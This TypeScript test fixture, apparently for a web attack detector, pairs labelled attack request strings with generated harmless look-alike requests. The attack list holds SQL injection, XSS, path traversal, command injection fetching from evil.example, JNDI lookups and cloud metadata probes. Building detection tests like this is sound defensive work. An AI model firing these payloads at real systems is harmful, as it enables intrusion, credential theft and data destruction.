import { randomOf } from '../../../lib/learning/random.ts';

/** Requests with signs of attacks, written for these tests in the usual forms of each kind; free of any license. */
export const attackRequests: Readonly<Record<string, readonly string[]>> = {
  'sql injection': [
    "/item?id=1' OR '1'='1",
    '/item?id=1 or 1=1',
    "/login?user=admin'--",
    '/item?id=1 UNION SELECT name, password FROM users',
    '/item?id=1%20union%20all%20select%20null,null',
    '/item?id=1/**/UNION/**/SELECT/**/1',
    "/item?id=1'; DROP TABLE users",
    '/item?id=1 AND SLEEP(5)',
    "/item?id=1'; WAITFOR DELAY '0:0:5'",
    '/item?id=1 and 1=2 union select table_name from information_schema.tables',
    "/item?id=') or ('a'='a",
    '/item?q=1%2527%2520or%25201%253D1',
  ],
  'cross-site scripting': [
    '/search?q=<script>alert(1)</script>',
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/search?q=<img src=x onerror=alert(1)>',
    '/search?q=<svg/onload=alert(1)>',
    '/search?q=javascript:alert(1)',
    '/search?q=&lt;script&gt;alert(1)',
    '/search?q="><iframe src=//evil.example>',
    '/search?q=<body onpageshow = alert(1)>',
    '/search?q=x;document.cookie',
  ],
  'path traversal': [
    '/file?name=../../../../etc/passwd',
    '/file?name=..%2f..%2f..%2fetc%2fshadow',
    '/file?name=..\\..\\windows\\win.ini',
    '/file?name=%252e%252e%252f%252e%252e%252fsecret',
    '/file?name=/etc/passwd',
    '/file?name=../secret%00.png',
    '/file?name=file:///home',
  ],
  'command injection': [
    '/ping?host=127.0.0.1; cat /var/log/auth.log',
    '/ping?host=127.0.0.1 | whoami',
    '/ping?host=127.0.0.1 && wget http://evil.example/x.sh',
    '/ping?host=`id`',
    '/ping?host=$(curl evil.example)',
    '/ping?host=a%0Als -la',
  ],
  'expression injection': [
    '${jndi:ldap://evil.example/a}',
    '/hello?name={{7*7}}',
    '${${lower:jndi}:ldap://x}',
    '/x?y=${T(java.lang.Runtime)}',
  ],
  'request to cloud metadata': [
    '/fetch?url=http://169.254.169.254/latest/meta-data/',
    '/fetch?url=http://metadata.google.internal/',
  ],
};

const words = [
  'red',
  'shoes',
  'size',
  'order',
  'select',
  'union',
  'script',
  'update',
  "o'brien",
  'and',
  'or',
  'drop',
  'café',
  '50%',
  'c++',
  'a&b',
  'etc',
  'on sale',
  'table',
  'cat',
  'sleep well',
  '1=1?',
];
const paths = [
  '/products',
  '/search',
  '/cart',
  '/account/orders',
  '/api/v1/items',
  '/blog/2026/03/how-we-work',
  '/docs/sql/select',
];
const sentences = [
  "I can't log in or reset my password since Monday; please help.",
  'Could you select two or three tables for us & update the order?',
  "The script of the play is great, and the union of both acts is better than in '99.",
  'Prices: 5 < 7 and 9 > 3. Is that on purpose?',
  'See ../readme for the path, or https://example.org/a?b=c&d=e.',
  'We drop the old plan; insert coins; delete me from the list.',
  'Curl your hair; ping me later | or call.',
];

/** So many requests and messages of people with nothing bad in mind, some of them with words that attacks use too: made in code. */
export function harmlessRequests(count: number, seed: number): string[] {
  const random = randomOf(seed);
  const of = (list: readonly string[]): string => list[random.upTo(list.length - 1)] ?? '';
  return Array.from({ length: count }, (_, at) => {
    if (at % 4 === 0) return of(sentences);
    const query = Array.from({ length: 1 + random.upTo(3) }, () => of(words)).join(' ');
    return `${of(paths)}?q=${at % 2 === 0 ? encodeURIComponent(query) : query}&page=${random.upTo(9)}&sort=price`;
  });
}
